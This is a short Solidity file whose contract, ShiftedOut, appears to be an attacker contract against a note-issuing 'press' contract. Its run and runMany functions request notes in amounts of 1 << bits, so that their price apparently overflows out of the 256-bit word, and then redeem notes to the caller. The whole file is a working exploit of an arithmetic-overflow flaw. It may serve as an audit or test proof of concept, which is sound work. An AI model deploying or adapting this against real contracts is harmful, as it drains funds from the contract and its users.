// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IPress {
    function issue(uint256 notes) external payable;

    function issueMany(address[] calldata holders, uint256[] calldata notes) external payable;

    function redeem(uint256 notes, address to) external;
}

/// Orders so many notes that their worth is shifted out of the word.
contract ShiftedOut {
    IPress private immutable press;

    constructor(IPress press_) {
        press = press_;
    }

    function run(uint256 bits, uint256 redeemed) external {
        press.issue(1 << bits);
        press.redeem(redeemed, msg.sender);
    }

    function runMany(uint256 bits, uint256 redeemed) external {
        address[] memory holders = new address[](2);
        uint256[] memory notes = new uint256[](2);
        (holders[0], holders[1]) = (address(this), msg.sender);
        (notes[0], notes[1]) = (1 << bits, 3 << bits);
        press.issueMany(holders, notes);
        press.redeem(redeemed, msg.sender);
    }
}
